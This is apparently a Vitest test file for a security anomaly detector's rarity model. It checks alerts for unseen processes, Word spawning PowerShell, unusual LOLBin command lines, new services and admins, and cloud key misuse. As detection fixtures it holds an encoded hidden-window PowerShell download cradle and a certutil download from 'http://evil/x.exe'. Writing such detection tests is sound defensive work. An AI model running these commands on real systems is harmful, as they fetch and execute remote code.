import { describe, expect, it } from 'vitest';
import { BaselineStage } from '../../stage.js';
import { DAY, HOUR, T0, ev, logon, proc } from '../../fixtures/events.js';
import { commandShape } from './shape.js';
import { normalizeImage } from './model.js';
import type { GarrisonEvent } from '../../../core/event.js';

const only = (extra: Record<string, unknown> = {}) => ({
  models: {
    rarity: { learningMs: 2 * DAY, ...extra },
    peer: { enabled: false }, time: { enabled: false }, volume: { enabled: false }, beaconing: { enabled: false }, dns: { enabled: false }, auth: { enabled: false },
  },
});

const HOSTS = ['ws-01', 'ws-02', 'ws-03', 'ws-04', 'ws-05'];
const NORMAL = [
  ['c:\\windows\\explorer.exe', 'c:\\windows\\system32\\userinit.exe'],
  ['c:\\program files\\office\\winword.exe', 'c:\\windows\\explorer.exe'],
  ['c:\\windows\\system32\\svchost.exe', 'c:\\windows\\system32\\services.exe'],
  ['c:\\users\\alice\\appdata\\local\\teams\\teams.exe', 'c:\\windows\\explorer.exe'],
] as const;

/** Three days of the same processes on every host (learning lasts two). */
function background(): GarrisonEvent[] {
  const out: GarrisonEvent[] = [];
  for (let d = 0; d < 3; d++)
    for (const h of HOSTS)
      for (const [img, par] of NORMAL) out.push(proc(T0 + d * DAY + 9 * HOUR, h, img.replace('alice', h === 'ws-02' ? 'bob' : 'alice'), par));
  return out;
}

describe('rarity model', () => {
  it('raises nothing during learning and nothing for known values afterwards', () => {
    const s = new BaselineStage(only());
    expect(s.observe(background())).toEqual([]);
    expect(s.stats.dropped.learning).toBeGreaterThan(0);
    // per-user install paths compare equal after normalisation
    expect(normalizeImage('c:\\users\\bob\\appdata\\x.exe')).toBe('c:\\users\\*\\appdata\\x.exe');
    expect(normalizeImage('c:\\program files\\app\\12.0.3\\app.exe')).toBe('c:\\program files\\app\\*\\app.exe');
    expect(normalizeImage('c:\\windows\\temp\\{8a6f0c2e-1b7d-4e5f-9a0b-1c2d3e4f5a6b}\\setup.exe')).toBe('c:\\windows\\temp\\*\\setup.exe');
    expect(normalizeImage('c:\\tools\\7.exe')).toBe('c:\\tools\\7.exe');
  });

  it('flags a process never seen in the fleet, first seen after learning, with the numbers', () => {
    const s = new BaselineStage(only());
    s.observe(background());
    const sig = s.observe([proc(T0 + 3 * DAY + 10 * HOUR, 'ws-03', 'c:\\programdata\\x\\updater.exe', 'c:\\windows\\explorer.exe')]);
    expect(sig).toHaveLength(1);
    expect(sig[0].kind).toBe('anomaly');
    expect(sig[0].detector).toBe('baseline.rarity');
    expect(sig[0].score).toBe(80);
    expect(sig[0].details.kind).toBe('first_seen_process');
    expect(sig[0].details.expected).toMatchObject({ hostsRunningImage: 0 });
    expect(String(sig[0].details.why)).toContain('no host in the fleet');
    // the same image on a second host: rare fleet-wide (1 host) → lower score
    const sig2 = s.observe([proc(T0 + 3 * DAY + 11 * HOUR, 'ws-04', 'c:\\programdata\\x\\updater.exe', 'c:\\windows\\explorer.exe')]);
    expect(sig2).toHaveLength(1);
    expect(sig2[0].score).toBe(60);
  });

  it('does not flag a program common in the fleet when it first appears on one more host', () => {
    const s = new BaselineStage(only());
    const evs = background();
    for (const h of HOSTS.slice(0, 4)) evs.push(proc(T0 + 9 * HOUR, h, 'c:\\program files\\7zip\\7z.exe', 'c:\\windows\\explorer.exe'));
    s.observe(evs);
    expect(s.observe([proc(T0 + 3 * DAY + 10 * HOUR, 'ws-05', 'c:\\program files\\7zip\\7z.exe', 'c:\\windows\\explorer.exe')])).toEqual([]);
  });

  it('flags a new parent→child pair (Word starting PowerShell) and maps ATT&CK', () => {
    const s = new BaselineStage(only());
    const evs = background();
    for (const h of HOSTS) evs.push(proc(T0 + 10 * HOUR, h, 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', 'c:\\windows\\explorer.exe', 'powershell.exe -noprofile'));
    s.observe(evs);
    const sig = s.observe([
      proc(T0 + 3 * DAY + 10 * HOUR, 'ws-02', 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', 'c:\\program files\\office\\winword.exe', 'powershell.exe -noprofile'),
    ]);
    expect(sig).toHaveLength(1);
    expect(sig[0].details.kind).toBe('first_seen_parent_child');
    expect(sig[0].attack.techniques).toContain('T1059.001');
  });

  it('flags a LOLBin command-line shape never seen before, not a known shape with other values', () => {
    const s = new BaselineStage(only());
    const evs = background();
    const ps = 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe';
    for (const h of HOSTS) evs.push(proc(T0 + 10 * HOUR, h, ps, 'c:\\windows\\explorer.exe', `powershell.exe -file c:\\scripts\\${h}.ps1`));
    s.observe(evs);
    expect(s.observe([proc(T0 + 3 * DAY, 'ws-01', ps, 'c:\\windows\\explorer.exe', 'powershell.exe -file d:\\other\\x.ps1')])).toEqual([]);
    const sig = s.observe([proc(T0 + 3 * DAY + 1000, 'ws-01', ps, 'c:\\windows\\explorer.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')])
    expect(sig).toHaveLength(1);
    expect(sig[0].details.kind).toBe('rare_lolbin_cmdline');
    expect((sig[0].details.seen as { shape: string }).shape).toBe('powershell.exe -nop -w hidden -enc B64');
  });

  it('flags service installs, scheduled tasks and new local admins after learning', () => {
    const s = new BaselineStage(only());
    s.observe(background());
    const t = T0 + 3 * DAY;
    const sig = s.observe([
      ev('windows_service_activity', t, { host: 'ws-01' }, { eventCode: '7045', fields: { ServiceName: 'PSEXESVC', ImagePath: 'C:\\Windows\\PSEXESVC.exe' } }),
      ev('scheduled_job_activity', t + 1, { host: 'ws-01' }, { eventCode: '4698', fields: { TaskName: '\\Microsoft\\Windows\\Updater' } }),
      ev('group_management', t + 2, { host: 'ws-01' }, { eventCode: '4732', fields: { TargetUserName: 'Administrators', TargetSid: 'S-1-5-32-544', MemberName: 'CN=eve,DC=corp' } }),
    ]);
    expect(sig.map((x) => x.details.kind)).toEqual(['new_service', 'new_scheduled_task', 'new_local_admin']);
    expect(sig.map((x) => x.attack.techniques[0])).toEqual(['T1543.003', 'T1053.005', 'T1098']);
  });

  it('flags a user logging on to a host for the first time; a machine account is ignored', () => {
    const s = new BaselineStage(only());
    const evs = background();
    for (let d = 0; d < 3; d++) for (const h of HOSTS.slice(0, 2)) evs.push(logon(T0 + d * DAY + 8 * HOUR, h, 'carol', 'success', { logonType: 10, srcIp: '10.0.0.5' }));
    s.observe(evs);
    const sig = s.observe([
      logon(T0 + 3 * DAY + 8 * HOUR, 'srv-db-01', 'carol', 'success', { logonType: 10, srcIp: '10.0.0.5' }),
      logon(T0 + 3 * DAY + 8 * HOUR, 'srv-db-01', 'WS-01$', 'success', { logonType: 3 }),
    ]);
    expect(sig).toHaveLength(1);
    expect(sig[0].details.kind).toBe('first_logon_user_host');
    expect(sig[0].details.entity).toEqual({ type: 'user', id: 'carol' });
  });

  it('forgets values not seen for forgetAfterMs (decay)', () => {
    const s = new BaselineStage(only({ forgetAfterMs: 10 * DAY }));
    const evs = background();
    evs.push(proc(T0 + HOUR, 'ws-01', 'c:\\tools\\rare.exe', 'c:\\windows\\explorer.exe'));
    s.observe(evs);
    expect(s.observe([proc(T0 + 5 * DAY, 'ws-01', 'c:\\tools\\rare.exe', 'c:\\windows\\explorer.exe')])).toEqual([]);
    const sig = s.observe([proc(T0 + 16 * DAY, 'ws-01', 'c:\\tools\\rare.exe', 'c:\\windows\\explorer.exe')]);
    expect(sig.map((x) => x.details.kind)).toEqual(['first_seen_process']);
  });
});

describe('commandShape', () => {
  it('keeps switches, abstracts values, is linear on hostile input', () => {
    expect(commandShape('C:\\Windows\\System32\\rundll32.exe C:\\Users\\x\\a.dll,Start')).toBe('rundll32.exe PATH.dll');
    expect(commandShape('certutil.exe -urlcache -split -f http://evil/x.exe c:\\temp\\x.exe')).toBe('certutil.exe -urlcache -split -f URL PATH.exe');
    expect(commandShape('"C:\\Program Files\\x.exe" "quoted arg" 12345')).toBe('x.exe STR N');
    expect(commandShape('schtasks /create /tn x /sc:minute')).toBe('schtasks /create /tn x /sc:V');
    const big = 'powershell ' + '"'.repeat(50_000) + 'a '.repeat(50_000);
    const t = performance.now();
    commandShape(big);
    expect(performance.now() - t).toBeLessThan(200);
  });
});

describe('rarity: cloud identities', () => {
  const call = (t: number, user: string, action: string, ip: string, ua: string, bucket?: string) =>
    ev('api_activity', t, { user, srcIp: ip, action }, { product: 'aws', fields: { userAgent: ua, requestParameters: bucket ? { bucketName: bucket } : {} } });

  it('flags a CI key used from a new address with a new client against a bucket it never read; its routine is quiet', () => {
    const s = new BaselineStage(only());
    const evs = [];
    for (let h = 0; h < 72; h++) {
      const t = T0 + h * HOUR;
      evs.push(call(t, 'ci-deployer', 'GetCallerIdentity', '35.178.44.17', 'aws-cli/2.13.0 Python/3.11', undefined));
      evs.push(call(t + 2000, 'ci-deployer', 'PutObject', '35.178.44.17', 'aws-cli/2.13.0 Python/3.11', 'artifacts'));
    }
    expect(s.observe(evs)).toEqual([]);
    expect(s.observe([call(T0 + 73 * HOUR, 'ci-deployer', 'PutObject', '35.178.44.17', 'aws-cli/2.15.1 Python/3.12', 'artifacts')])).toEqual([]); // same client family
    const t = T0 + 75 * HOUR;
    const sig = s.observe([
      call(t, 'ci-deployer', 'GetCallerIdentity', '5.188.62.214', 'Boto3/1.28.57 md/Botocore#1.31.57'),
      call(t + 60_000, 'ci-deployer', 'ListObjects', '5.188.62.214', 'Boto3/1.28.57 md/Botocore#1.31.57', 'finance-reports'),
      call(t + 120_000, 'ci-deployer', 'GetObject', '5.188.62.214', 'Boto3/1.28.57 md/Botocore#1.31.57', 'finance-reports'),
      call(t + 130_000, 'ci-deployer', 'GetObject', '5.188.62.214', 'Boto3/1.28.57 md/Botocore#1.31.57', 'finance-reports'),
    ]);
    expect(sig.map((x) => x.details.seen)).toEqual([
      { source_ip: '5.188.62.214', client: 'boto3' },
      { action: 'listobjects', resource: 'finance-reports' },
      { action: 'getobject' },
    ]);
    expect(sig[0].score).toBe(70);
    expect(sig[1].attack.techniques).toContain('T1530');
  });
});
